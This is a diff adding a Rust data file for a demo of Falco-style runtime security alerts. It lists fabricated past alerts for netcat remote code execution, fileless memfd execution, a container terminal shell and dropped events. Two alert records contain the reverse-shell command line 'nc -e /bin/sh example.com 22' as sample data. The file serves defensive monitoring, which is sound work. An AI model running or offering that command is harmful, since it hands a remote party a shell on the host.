@@ -1,0 +1,131 @@
+//! What happened before one began to watch.
+
+use super::{
+    BRIEF_DRILL, DRILL, FELIX, MEMFD_FIELDS, MEMFD_TAGS, NETCAT_TAGS, SECOND_DRILL, Scene, TOOLBOX,
+};
+use crate::model::Priority::{Critical, Debug, Notice, Warning};
+
+/// What happened before one began to watch: seconds from the start (negative), and the alert.
+pub(in crate::demo) static HISTORY: &[(i64, Scene)] = &[
+    (
+        -2280,
+        Scene {
+            rule: "Netcat Remote Code Execution in Container",
+            priority: Warning,
+            event_source: "syscall",
+            hostname: "lab-1",
+            says: "Netcat was started in a container with an option that hands a program to the connection",
+            place: Some(&SECOND_DRILL),
+            tells_start: false,
+            tags: NETCAT_TAGS,
+            fields: &[
+                ("evt.type", "execve"),
+                ("evt.arg.flags", "EXE_WRITABLE|EXE_LOWER_LAYER"),
+                ("user.name", "root"),
+                ("user.uid", "#0"),
+                ("user.loginuid", "#-1"),
+                ("proc.name", "nc"),
+                ("proc.exepath", "/usr/bin/nc"),
+                ("proc.pname", "event-generator"),
+                ("proc.cmdline", "nc -e /bin/sh example.com 22"),
+                ("proc.tty", "#0"),
+            ],
+        },
+    ),
+    (
+        -1540,
+        Scene {
+            rule: "Netcat Remote Code Execution in Container",
+            priority: Warning,
+            event_source: "syscall",
+            hostname: "lab-1",
+            says: "Netcat was started in a container with an option that hands a program to the connection",
+            place: Some(&DRILL),
+            tells_start: false,
+            tags: NETCAT_TAGS,
+            fields: &[
+                ("evt.type", "execve"),
+                ("user.name", "root"),
+                ("user.uid", "#0"),
+                ("proc.name", "nc"),
+                ("proc.exepath", "/usr/bin/nc"),
+                ("proc.pname", "event-generator"),
+                ("proc.cmdline", "nc -e /bin/sh example.com 22"),
+                ("proc.tty", "#34816"),
+            ],
+        },
+    ),
+    (
+        -1524,
+        Scene {
+            rule: "Fileless execution via memfd_create",
+            priority: Critical,
+            event_source: "syscall",
+            hostname: "lab-1",
+            says: "A program was executed from memory",
+            place: Some(&DRILL),
+            tells_start: true,
+            tags: MEMFD_TAGS,
+            fields: MEMFD_FIELDS,
+        },
+    ),
+    (-1100, FELIX),
+    (
+        -780,
+        Scene {
+            rule: "Fileless execution via memfd_create",
+            priority: Critical,
+            event_source: "syscall",
+            hostname: "lab-1",
+            says: "A program was executed from memory",
+            place: Some(&BRIEF_DRILL),
+            tells_start: true,
+            tags: MEMFD_TAGS,
+            fields: MEMFD_FIELDS,
+        },
+    ),
+    (
+        -420,
+        Scene {
+            rule: "Terminal shell in container",
+            priority: Notice,
+            event_source: "syscall",
+            hostname: "node-a",
+            says: "A shell with a terminal was started inside a container",
+            place: Some(&TOOLBOX),
+            tells_start: false,
+            tags: &["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
+            fields: &[
+                ("evt.type", "execve"),
+                ("evt.arg.flags", "EXE_LOWER_LAYER"),
+                ("user.name", "ops"),
+                ("user.uid", "#1000"),
+                ("user.loginuid", "#-1"),
+                ("proc.name", "bash"),
+                ("proc.exepath", "/usr/bin/bash"),
+                ("proc.pname", "containerd-shim"),
+                ("proc.cmdline", "bash"),
+                ("proc.tty", "#34817"),
+            ],
+        },
+    ),
+    (
+        -200,
+        Scene {
+            rule: "Falco internal: syscall event drop",
+            priority: Debug,
+            event_source: "internal",
+            hostname: "node-b",
+            says: "Falco could not keep up",
+            place: None,
+            tells_start: false,
+            tags: &[],
+            fields: &[
+                ("n_drops", "#112"),
+                ("n_drops_buffer_total", "#112"),
+                ("n_evts", "#501233"),
+                ("ebpf_enabled", "#1"),
+            ],
+        },
+    ),
+];
